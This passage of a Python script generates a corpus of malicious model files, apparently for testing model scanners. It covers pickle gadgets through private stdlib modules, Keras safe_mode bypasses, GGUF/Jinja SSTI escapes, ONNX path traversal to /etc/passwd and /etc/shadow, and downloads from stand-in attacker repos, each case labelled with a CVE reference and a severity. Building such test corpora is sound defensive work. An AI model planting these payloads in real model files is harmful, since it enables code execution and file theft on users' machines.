    for n, d in [("data.pkl", mal)] + TENS:
        with zz.open("archive/" + n, "w", force_zip64=True) as w:
            w.write(d)
case("c25_zip64.pt", zb.getvalue(), "ZIP64 extra fields on every member", "zip tricks", "critical")
case("c26_gzip_multimember.pkl.gz", gzip.compress(pickle.dumps([1], protocol=2), mtime=0)
     + gzip.compress(mal, mtime=0),
     "payload in the second gzip member (gzip readers concatenate members)", "compression tricks",
     "critical")
import bz2
import lzma
case("c27_model.pkl.xz", lzma.compress(mal), "xz-compressed pickle", "compression tricks", "critical")
case("c28_model.pkl.bz2", bz2.compress(mal), "bz2-compressed pickle", "compression tricks", "critical")
hdr2 = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr2 += " " * (63 - (12 + len(hdr2)) % 64) + "\n"
npy2 = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(hdr2)) + hdr2.encode() + mal
case("c29_object_v2.npy", npy2, "object .npy with a version 2.0 header", "modelscan", "critical")
hdr3 = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
hdr3 += " " * (63 - (10 + len(hdr3)) % 64) + "\n"
case("c36_structured_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr3)) + hdr3.encode() + mal,
     "object field inside a structured dtype", "numpy", "critical")
for nm, d in (("c38_descr_object_name.npy", "'object'"), ("c39_descr_subarray.npy", "('O', (2,))"),
              ("c40_descr_field_subarray.npy", "[('a', ('O', (2,)))]")):
    h_ = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % d
    h_ += " " * (63 - (10 + len(h_)) % 64) + "\n"
    case(nm, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h_)) + h_.encode() + mal,
         "object dtype spelled %s (np.dtype accepts it)" % d, "numpy descr_to_dtype", "critical")
hdr4 = "{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }"
hdr4 += " " * (63 - (10 + len(hdr4)) % 64) + "\n"
case("c37_fortran_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr4)) + hdr4.encode() + mal,
     "Fortran-ordered object array", "numpy", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w", zipfile.ZIP_DEFLATED) as zz:
    zz.writestr("weights", npy)
case("c30_npz_member_no_suffix.npz", zb.getvalue(), "npz member without .npy suffix (npz['weights'] loads it)",
     "numpy", "critical")
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w:xz", format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo("m/" + "d" * 150 + "/data.pkl")
    ti.size = len(mal)
    ti.pax_headers = {"comment": "x"}
    t.addfile(ti, io.BytesIO(mal))
case("c31_pax_long_name.tar.xz", tb.getvalue(), "tar.xz with PAX long member name", "containers", "critical")
try:
    import joblib

    class _Evil:
        def __reduce__(self):
            return (os.system, ("true",))
    for nm, comp in (("c32_joblib_lzma.joblib", ("lzma", 3)), ("c33_joblib_bz2.joblib", ("bz2", 3)),
                     ("c34_joblib_gzip.joblib", ("gzip", 3))):
        joblib.dump({"m": _Evil()}, os.path.join(OUT, nm), compress=comp)
        MANIFEST.append((nm, "joblib.dump compress=%s" % comp[0], "modelscan", "critical", "WT-PICKLE"))
    # np.dtype('object') spelled out in a joblib array wrapper: joblib.load unpickles the array
    jb = io.BytesIO()
    import numpy as np
    joblib.dump({"a": np.array([_Evil()], dtype=object)}, jb)
    jd = bytearray(jb.getvalue())
    at = jd.find(b"\x8c\x02O8")
    fr = jd.rfind(b"\x95", 0, at)
    if at > 0 and fr >= 0:
        flen = struct.unpack_from("<Q", jd, fr + 1)[0]
        jd[at:at + 4] = b"\x8c\x06object"
        struct.pack_into("<Q", jd, fr + 1, flen + 4)
        case("c41_joblib_dtype_object.joblib", bytes(jd), "joblib object array with dtype spelled 'object'",
             "joblib", "critical", "WT-PICKLE", "WT-PICKLE-004")
except ImportError:
    pass



# ------------------------------------------------------------------ other formats
code = marshal.dumps(compile("__import__('os').system('true')", "<lambda>", "eval"))
lam = {"class_name": "Lambda", "config": {"name": "l", "function": {
    "class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(),
                                           "defaults": None, "closure": None}}}}
cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [
    {"class_name": "InputLayer", "config": {"batch_shape": [None, 2]}}, lam]}}


def keras_zip(cfg):
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as zz:
        zz.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        zz.writestr("config.json", json.dumps(cfg))
    return zb.getvalue()


case("k01_lambda.keras", keras_zip(cfg), "Keras v3 Lambda bytecode (safe_mode bypass)",
     "CVE-2024-3660", "critical", "WT-KERAS")
case("k04_pickle_keras_polyglot.keras", pickle.dumps({"ok": 1}, protocol=2) + keras_zip(cfg),
     "benign pickle + .keras zip polyglot (zipfile.is_zipfile accepts a prefix)", "fickling polyglot",
     "critical", "WT-KERAS")
cfg2 = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "Dense", "config": {
        "units": 2, "activation": {"module": "subprocess", "class_name": "function",
                                   "config": "Popen", "registered_name": "function"}}}]}}
case("k02_module_function.keras", keras_zip(cfg2),
     "Keras config module/function outside keras (subprocess.Popen)", "CVE-2025-1550",
     "critical", "WT-KERAS")
cfg3 = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "Dense", "config": {
        "units": 2, "activation": {"module": "builtins", "class_name": "function",
                                   "config": "exec", "registered_name": "function"}}}]}}
case("k03_builtins_exec.keras", keras_zip(cfg3),
     "Keras config function builtins.exec", "CVE-2025-1550", "critical", "WT-KERAS")


def gguf(kv):
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv:
        kb = k.encode()
        vb = v.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
    return out


ssti = ("{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('true') }}{% endif %}{% endfor %}")
case("g01_chat_template.gguf", gguf([("general.architecture", "llama"),
                                     ("tokenizer.chat_template", ssti)]),
     "GGUF chat_template Jinja SSTI", "CVE-2024-34359", "critical", "WT-GGUF")
try:
    import onnx
    from onnx import helper, TensorProto
    t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "4")):
        e = t.external_data.add()
        e.key, e.value = k, v
    gr = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [],
                           [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [t])
    m = helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13)])
    case("o01_external_traversal.onnx", m.SerializeToString(),
         "ONNX external_data path traversal", "CVE-2024-27318", "high", "WT-ONNX")
except ImportError:
    pass

for nm, mod, fn, src in (("k05_get_file.keras", "keras.utils", "get_file", "CVE-2025-8747"),
                         ("k06_enable_unsafe.keras", "keras.config", "enable_unsafe_deserialization",
                          "CVE-2025-9906")):
    c = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "Dense", "config": {
            "units": 2, "activation": {"module": mod, "class_name": "function", "config": fn,
                                       "registered_name": "function"}}}]}}
    case(nm, keras_zip(c), "Keras safe_mode bypass through a Keras-internal gadget %s.%s" % (mod, fn),
         src, "high", "WT-KERAS")
dense = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}]}}
for nm, key, val in (("k10_compile_config.keras", "compile_config",
                      {"loss": {"module": "builtins", "class_name": "function", "config": "exec",
                                "registered_name": "function"}, "optimizer": "adam"}),
                     ("k11_build_config.keras", "build_config",
                      {"input_shape": {"module": "subprocess", "class_name": "function",
                                       "config": "getoutput", "registered_name": "function"}})):
    c = dict(dense)
    c[key] = val
    case(nm, keras_zip(c), "function reference hidden in %s (outside the layer tree)" % key,
         "CVE-2025-1550 variants", "critical", "WT-KERAS")
tmw = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": "TorchModuleWrapper",
     "config": {"name": "t", "module": base64.b64encode(torch_zip([("data.pkl", mal), ("version", b"3\n")])).decode()}}]}}
case("k12_torch_module_wrapper.keras", keras_zip(tmw),
     "TorchModuleWrapper config.module is torch.load()ed (base64 torch.save payload)",
     "https://github.com/keras-team/keras/pull/21575", "critical", "WT-PICKLE")
nested = {"class_name": "Sequential", "config": {"name": "outer", "layers": [
    {"class_name": "TimeDistributed", "config": {"layer": {"class_name": "Bidirectional", "config": {
        "layer": lam}}}}]}}
case("k07_nested_lambda.keras", keras_zip(nested), "Lambda hidden in TimeDistributed(Bidirectional(...))",
     "CVE-2024-3660", "critical", "WT-KERAS")
try:
    import h5py
    h5p = os.path.join(OUT, "k08_lambda.h5")
    with h5py.File(h5p, "w", track_order=False) as hf:
        hf.attrs["keras_version"] = "2.11.0"
        hf.attrs["backend"] = "tensorflow"
        hf.attrs["model_config"] = json.dumps(cfg)
    MANIFEST.append(("k08_lambda.h5", "Keras HDF5 Lambda bytecode", "CVE-2024-3660", "critical",
                     "WT-KERAS"))
    k2 = {"class_name": "Model", "config": {"name": "m", "layers": [
        {"class_name": "Lambda", "config": {"name": "l", "function": [base64.b64encode(code).decode() + "\n",
                                                                       None, None],
                                            "function_type": "lambda", "module": "__main__"}}]}}
    h5p = os.path.join(OUT, "k09_lambda_keras2.hdf5")
    with h5py.File(h5p, "w") as hf:
        hf.attrs["keras_version"] = b"2.4.0"
        hf.attrs["model_config"] = json.dumps(k2).encode()
    MANIFEST.append(("k09_lambda_keras2.hdf5", "Keras 2 HDF5 Lambda (function tuple, bytes attribute)",
                     "CVE-2024-3660", "critical", "WT-KERAS"))
except ImportError:
    pass
case("t01_torchscript_code.pt",
     torch_zip([("data.pkl", SD), ("constants.pkl", pickle.dumps((), protocol=2)),
                ("code/__torch__/m.py",
                 b"class M(Module):\n  def forward(self, x):\n    __import__('os').system('true')\n"
                 b"    return x\n")] + TENS),
     "TorchScript code calling os.system", "ModelAudit", "critical", "WT-TORCHSCRIPT")
for nm, tpl, src in (
        ("g02_attr_hex.gguf", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "SSTI filter bypass (hex escapes)"),
        ("g03_concat.gguf", "{{ ()|attr('__cla' ~ 'ss__')|attr('__base__') }}", "SSTI string concatenation"),
        ("g04_join.gguf", "{% set a = ['_','_','class','_','_']|join %}{{ ()|attr(a) }}",
         "SSTI name built with join"),
        ("g05_lipsum.gguf", "{{ lipsum.__globals__['os'].popen('true').read() }}", "SSTI lipsum globals"),
        ("g06_cycler.gguf", "{{ cycler.__init__.__globals__.os.popen('true') }}", "SSTI cycler globals")):
    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical", "WT-GGUF")
for nm, tpl, src in (
        ("g07_format_chr.gguf", "{{ ()|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
         "SSTI dunder built with format(95)"),
        ("g08_mul_underscore.gguf", "{{ ()|attr('_'*2 ~ 'class' ~ '_'*2)|attr('_'*2 ~ 'base' ~ '_'*2) }}",
         "SSTI dunder built with '_'*2"),
        ("g11_subscript_vars.gguf", "{% set u = '_' %}{{ ()[u+u+'class'+u+u] }}",
         "SSTI subscript key built from variables"),
        ("g12_subscript_format.gguf", "{{ ()[('%c'|format(95))*2 ~ 'class' ~ ('%c'|format(95))*2] }}",
         "SSTI subscript key built with format(95)"),
        ("g09_unicode_escape.gguf", "{{ ()['\\u005f\\u005fclass\\u005f\\u005f'] }}",
         "SSTI subscript with \\u escapes")):
    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical", "WT-GGUF")
case("g13_duplicate_key.gguf",
     gguf([("general.architecture", "llama"), ("tokenizer.chat_template", "{{ messages }}"),
           ("tokenizer.chat_template", ssti)]),
     "duplicate tokenizer.chat_template key, benign first (dict readers keep the last)",
     "CVE-2024-34359 variants", "critical", "WT-GGUF")
case("g10_named_template.gguf",
     gguf([("general.architecture", "llama"), ("tokenizer.chat_template", "{{ messages }}"),
           ("tokenizer.chat_template.tool_use", ssti)]),
     "SSTI in a named template (tokenizer.chat_template.tool_use)", "CVE-2024-34359 variants",
     "critical", "WT-GGUF")
try:
    import onnx
    from onnx import helper, TensorProto
    gr = helper.make_graph([helper.make_node("Evil", ["x"], ["y"], domain="com.attacker")], "g",
                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                           [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    m = helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13),
                                             helper.make_opsetid("com.attacker", 1)])
    case("o02_custom_domain.onnx", m.SerializeToString(), "ONNX custom-domain operator (native code)",
         "modelscan/ModelAudit", "medium", "WT-ONNX")
    t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", "/etc/passwd"
    gr = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [],
                           [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [t])
    m = helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13)])
    case("o03_external_absolute.onnx", m.SerializeToString(), "ONNX external_data absolute path",
         "CVE-2024-27318", "high", "WT-ONNX")
    for nm, loc in (("o04_external_dotdot_inner.onnx", "weights/../../../etc/passwd"),
                    ("o05_external_backslash.onnx", "..\\..\\..\\etc\\passwd"),
                    ("o06_external_windows_abs.onnx", "C:\\Windows\\win.ini")):
        t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = "location", loc
        gr = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [],
                               [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [t])
        m = helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13)])
        case(nm, m.SerializeToString(), "ONNX external_data " + loc, "CVE-2024-27318 variants", "high",
             "WT-ONNX")

    def ext_t(name, loc):
        t_ = helper.make_tensor(name, TensorProto.FLOAT, [1], [0.0])
        t_.ClearField("float_data")
        t_.data_location = TensorProto.EXTERNAL
        e_ = t_.external_data.add()
        e_.key, e_.value = "location", loc
        return t_
    yv = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])]
    g_ = helper.make_graph([helper.make_node("Constant", [], ["y"], value=ext_t("c", "../../../etc/passwd"))],
                           "g", [], yv)
    case("o07_external_in_attribute.onnx",
         helper.make_model(g_, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString(),
         "external_data on a Constant node's attribute tensor", "CVE-2024-27318 variants", "high", "WT-ONNX")
    then_g = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "then", [],
                               [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])],
                               [ext_t("w", "../../../etc/shadow")])
    else_g = helper.make_graph([helper.make_node("Identity", ["w2"], ["o"])], "else", [],
                               [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])],
                               [helper.make_tensor("w2", TensorProto.FLOAT, [1], [0.0])])
    g_ = helper.make_graph([helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)], "g",
                           [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])], yv)
    case("o08_external_in_subgraph.onnx",
         helper.make_model(g_, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString(),
         "external_data on an If-branch initializer", "CVE-2024-27318 variants", "high", "WT-ONNX")
except ImportError:
    pass

# ------------------------------------------------------------------ round 2: more published bypasses
GHSA_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
FICK_PRIV = "https://github.com/trailofbits/fickling/pull/302 (private stdlib modules)"
# C accelerator / private stdlib modules: the public name is blocked, the C twin is not.
case("q01_functools_c_partial.pkl",
     p4(sg("_functools", "partial") + sg("mylib.tools", "run") + su("x") + TUPLE2 + REDUCE
        + EMPTY_TUPLE + REDUCE),
     "_functools.partial (C twin of functools.partial) hides the call", FICK_PRIV, "high")
case("q02_functools_c_reduce.pkl",
     p4(sg("_functools", "reduce") + sg("mylib.tools", "run") + EMPTY_LIST + su("a") + APPEND
        + TUPLE2 + REDUCE),
     "_functools.reduce calls its first argument", FICK_PRIV, "high")
case("q03_tkinter_tcl_exec.pkl",
     p4(sg("_tkinter", "create") + EMPTY_TUPLE + REDUCE + MEMOIZE + b"0"
        + sg("builtins", "getattr") + binget(0) + su("eval") + TUPLE2 + REDUCE
        + su("exec true") + TUPLE1 + REDUCE),
     "_tkinter.create() Tcl interpreter: eval('exec true') runs a command", FICK_PRIV, "critical")
case("q04_bootsubprocess.pkl",
     p4(call1(sg("_bootsubprocess", "check_output"), EMPTY_LIST + TRUE + APPEND)),
     "_bootsubprocess.check_output (CPython build helper runs a command)", FICK_PRIV, "critical")
case("q05_testcapi.pkl",
     p4(call1(sg("_testinternalcapi", "run_in_subinterp_with_config"), su("print(1)"))),
     "_testinternalcapi subinterpreter run (test C API)", FICK_PRIV, "critical")
case("q06_posixshmem.pkl", p4(call1(sg("_posixshmem", "shm_unlink"), su("/wt-x"))),
     "_posixshmem.shm_unlink (private stdlib, touches shared memory files)", FICK_PRIV, "high")
case("q07_pipes_template.pkl",
     p4(sg("pipes", "Template") + EMPTY_TUPLE + REDUCE),
     "pipes.Template runs shell pipelines", FICK + " UNSAFE_IMPORTS", "critical")
case("q08_wsgiref_server.pkl",
     p4(sg("wsgiref.simple_server", "make_server") + su("0.0.0.0") + b"K\x50" + NONE + b"\x87" + REDUCE),
     "wsgiref.simple_server.make_server binds a socket", "network modules (GHSA-hgrh-qx5j-jfwx family)",
     "critical")
case("q09_asyncore.pkl", p4(call1(sg("asyncore", "loop"), NONE)),
     "asyncore/asynchat/smtpd (pre-3.12 network modules)", "network modules (GHSA-hgrh-qx5j-jfwx family)",
     "critical")
# Native library loaders: a shared object's constructor runs at dlopen.
case("q10_numpy_ctypeslib.pkl",
     p4(sg("numpy.ctypeslib", "load_library") + su("libwt") + su("/tmp") + TUPLE2 + REDUCE),
     "numpy.ctypeslib.load_library (dlopen)", "picklescan scanner.py TODO list", "critical")
case("q11_torch_ops_load_library.pkl",
     p4(call1(sg("torch.ops", "load_library"), su("/tmp/wt.so"))),
     "torch.ops.load_library (dlopen a custom-op library)", "torch custom ops", "critical")
case("q12_torch_classes_load_library.pkl",
     p4(call1(sg("torch._classes", "classes.load_library"), su("/tmp/wt.so"))),
     "torch._classes.classes.load_library (dlopen)", "torch custom classes", "critical")
case("q13_torch_model_zoo.pkl",
     p4(call1(sg("torch.utils.model_zoo", "load_url"), su("http://127.0.0.1/x.pt"))),
     "torch.utils.model_zoo.load_url downloads and torch.loads a file", "picklescan scanner.py TODO list",
     "critical")
case("q14_numpy_lib_format.pkl",
     p4(sg("numpy.lib.format", "read_array") + su("/tmp/x.npy") + b"\x88" + TUPLE2 + REDUCE),
     "numpy.lib.format.read_array(allow_pickle=True) unpickles a file", "numpy allow_pickle", "critical")
case("q15_numpy_fromfile_core.pkl",
     p4(call1(sg("numpy.core.multiarray", "fromfile"), su("/etc/hostname"))),
     "numpy.core.multiarray.fromfile (C home of numpy.fromfile)", "alias of a denied function", "high")
case("q16_numpy_loadtxt.pkl", p4(call1(sg("numpy", "loadtxt"), su("/etc/hostname"))),
     "numpy.loadtxt reads a file chosen by the pickle", "numpy file readers", "high")
case("q17_torch_save.pkl",
     p4(sg("torch", "save") + EMPTY_DICT + su("/tmp/wt-bypass.pt") + TUPLE2 + REDUCE),
     "torch.save writes a file chosen by the pickle", "ModelAudit", "high")
case("q18_torch_from_file.pkl",
     p4(sg("torch", "from_file") + su("/etc/hostname") + b"\x88" + TUPLE2 + REDUCE),
     "torch.from_file maps a file chosen by the pickle", "ModelAudit", "high")
case("q19_pathlib_method_walk.pkl",
     p4(sg("pathlib", "Path.write_text") + call1(sg("pathlib", "Path"), su("/tmp/wt-bypass.txt"))
        + su("x") + TUPLE2 + REDUCE),
     "pathlib.Path.write_text: method walk through an allowlisted class (file write)", "allowlist abuse",
     "high")
case("q20_numpy_tofile_walk.pkl",
     p4(sg("numpy", "ndarray.tofile") + NONE + su("/tmp/wt-bypass.bin") + TUPLE2 + REDUCE),
     "numpy.ndarray.tofile: method walk through an allowlisted class (file write)", "allowlist abuse",
     "high")
case("q21_keras_load_model.pkl",
     p4(sg("keras.models", "load_model") + su("/tmp/x.keras") + TUPLE1 + REDUCE),
     "keras.models.load_model loads a second model (safe_mode off inside pickles)",
     "picklescan scanner.py TODO list", "high")
case("q22_hf_hub_download.pkl",
     p4(sg("huggingface_hub", "hf_hub_download") + su("attacker/repo") + su("x.pkl") + TUPLE2 + REDUCE),
     "huggingface_hub.hf_hub_download fetches attacker files", "network download", "high")
case("q23_transformers_remote_code.pkl",
     p4(sg("transformers", "AutoModel.from_pretrained") + su("attacker/repo") + TUPLE1 + REDUCE),
     "transformers AutoModel.from_pretrained (trust_remote_code downloads code)", "network download", "high")
case("q24_logging_handler.pkl",
     p4(call1(sg("logging.handlers", "SocketHandler"), su("127.0.0.1"))),
     "logging.handlers.SocketHandler opens a network socket", FICK + " UNSAFE_IMPORTS", "high")
case("q25_build_class.pkl",
     p4(sg("builtins", "__build_class__") + NONE + su("X") + TUPLE2 + REDUCE),
     "builtins.__build_class__ calls a function body", FICK + " GHSA-h4rm-mm56-xf63", "high")
case("q26_object_subclasses.pkl",
     p4(sg("builtins", "object.__subclasses__") + EMPTY_TUPLE + REDUCE),
     "builtins.object.__subclasses__ (dunder walk from an allowlisted type)", "allowlist abuse", "high")
case("q27_scanner_tamper.pkl",
     p4(sg("picklescan.scanner", "_unsafe_globals.clear") + EMPTY_TUPLE + REDUCE),
     "pickle imports a pickle scanner to disable it", "https://github.com/trailofbits/fickling/pull/249",
     "high")
case("q28_torch_multiprocessing.pkl",
     p4(sg("torch.multiprocessing", "spawn") + sg("builtins", "print") + TUPLE1 + REDUCE),
     "torch.multiprocessing.spawn starts processes", "torch", "critical")
case("q29_syslog.pkl", p4(call1(sg("syslog", "syslog"), su("x"))),
     "syslog (fickling UNSAFE_IMPORTS)", FICK + " UNSAFE_IMPORTS", "high")
case("q30_torch_hub_via_nn.pkl",
     p4(call1(sg("torch.nn.modules.module", "torch.hub.load"), su("attacker/repo"))),
     "torch.hub.load through an allowlisted torch.nn module", "CVE-2025-10157 family", "critical")
case("q31_zip_hidden_member.pt",
     torch_zip([("data.pkl", SD), ("extra/config.cfg", mal)] + TENS),
     "pickle hidden in a zip member with a non-pickle name (torch.load pickle_file=...)", "CVE-2025-1889",
     "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w", zipfile.ZIP_LZMA) as zz:
    zz.writestr("model/data.pkl", mal)
case("q32_zip_lzma_member.zip", zb.getvalue(), "pickle in an LZMA-compressed zip member (method 14)",
     "zip tricks", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w", zipfile.ZIP_BZIP2) as zz:
    zz.writestr("arr_0.npy", npy)
case("q33_npz_bzip2.npz", zb.getvalue(), "object .npy in a bzip2-compressed npz member (np.load reads it)",
     "numpy", "critical")
case("q34_zip_concat.pt", torch_zip([("data.pkl", SD)] + TENS) + torch_zip([("data.pkl", mal)] + TENS),
     "two zips concatenated: loaders read the last end-of-central-directory", "zip tricks", "critical")
for nm, d in (("q35_descr_lt_O.npy", "'<O'"), ("q36_descr_O8.npy", "'O8'"), ("q37_descr_object_.npy", "'object_'")):
    h_ = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % d
    h_ += " " * (63 - (10 + len(h_)) % 64) + "\n"
    case(nm, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h_)) + h_.encode() + mal,
         "object dtype spelled %s (np.dtype accepts it)" % d, "numpy descr_to_dtype", "critical")

# Keras: layers that read files or URLs while the model is loaded, in safe_mode.
def kseq(layer):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}


case("k13_lambda_in_activation.keras", keras_zip(kseq(
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
        "module": None, "class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(),
                                                             "defaults": None, "closure": None}}}})),
     "__lambda__ bytecode as a Dense activation (not a Lambda layer)", "CVE-2024-3660 variants", "critical",
     "WT-KERAS")
case("k14_tfsmlayer.keras", keras_zip(kseq(
    {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": "TFSMLayer",
     "config": {"name": "t", "filepath": "/tmp/wt-attacker-savedmodel", "call_endpoint": "serve"}})),
     "TFSMLayer loads an external SavedModel (its graph runs; safe_mode did not block it)",
     "Keras GHSA TFSMLayer safe_mode bypass (keras 3.11.3)", "high", "WT-KERAS")
for nm, cls, vocab, src in (
        ("k15_stringlookup_vocab_file.keras", "StringLookup", "/etc/passwd", "CVE-2025-12058"),
        ("k16_integerlookup_vocab_url.keras", "IntegerLookup", "gs://attacker-bucket/vocab.txt",
         "CVE-2025-12058"),
        ("k17_textvectorization_vocab.keras", "TextVectorization", "http://127.0.0.1/vocab.txt",
         "CVE-2025-12058")):
    case(nm, keras_zip(kseq({"module": "keras.layers", "class_name": cls, "registered_name": cls,
                             "config": {"name": "v", "vocabulary": vocab}})),
         "%s vocabulary is a file path / URL read at load time" % cls, src, "high", "WT-KERAS")
case("b16_stringlookup_inline_vocab.keras", keras_zip(kseq(
    {"module": "keras.layers", "class_name": "StringLookup", "registered_name": "StringLookup",
     "config": {"name": "v", "vocabulary": ["a", "b", "c"]}})),
     "benign StringLookup with an inline vocabulary list", "control", "none", "-")

# Chat templates: dunder names rebuilt with string filters.
for nm, tpl, src in (
        ("g14_reverse.gguf", "{{ ()|attr('__ssalc__'|reverse)|attr('__esab__'|reverse) }}",
         "SSTI dunder built with |reverse"),
        ("g15_replace.gguf", "{{ ()|attr('XXclassXX'|replace('X','_')) }}", "SSTI dunder built with |replace"),
        ("g16_lower.gguf", "{{ ()|attr('__CLASS__'|lower) }}", "SSTI dunder built with |lower"),
        ("g17_octal.gguf", "{{ ()['\\137\\137class\\137\\137'] }}", "SSTI subscript with octal escapes"),
        ("g18_dict_keyword.gguf", "{{ ()|attr(dict(__class__=1)|first) }}",
         "SSTI dunder taken from a dict() keyword name"),
        ("g19_message_attr.gguf",
         "{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}",
         "attr() name taken from message data (runtime-chosen attribute)")):
    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical" if nm != "g19_message_attr.gguf"
         else "high", "WT-GGUF")
tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ssti}).encode()
case("g20_tokenizer_config.json", tc, "SSTI in tokenizer_config.json chat_template (transformers renders it)",
     "CVE-2024-34359 variants", "critical", "WT-")
tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [
    {"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ssti}]}).encode()
case("g21_tokenizer_config_named.json", tc,
     "SSTI in a named chat_template list entry of tokenizer_config.json", "CVE-2024-34359 variants", "critical",
     "WT-")
llama3 = ("{{- bos_token }}{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}"
          "{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}"
          "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
          "{%- set messages = messages[1:] %}{%- else %}{%- set system_message = \"\" %}{%- endif %}"
          "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}{{- system_message }}"
          "{%- for message in messages %}{%- if not (message.role == 'ipython' or message.role == 'tool') %}"
          "{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim"
          " + '<|eot_id|>' }}{%- elif 'tool_calls' in message %}{%- set tool_call = message.tool_calls[0].function %}"
          "{{- '{\"name\": \"' + tool_call.name + '\", ' }}{{- '\"parameters\": ' }}{{- tool_call.arguments | tojson }}"
          "{%- else %}{{- raise_exception('Only user and assistant roles are supported!') }}{%- endif %}"
          "{%- endfor %}{%- if add_generation_prompt %}"
          "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
case("b17_llama3_template.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", llama3)]),
     "benign Llama-3-style chat template (tools, raise_exception, tojson, slicing)", "control", "none", "-")
qwen = ("{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
        "{%- if ns.multi_step_tool and message.role == \"user\" and not(message.content.startswith('<tool_response>')) %}"
        "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
        "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}"
        "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}")
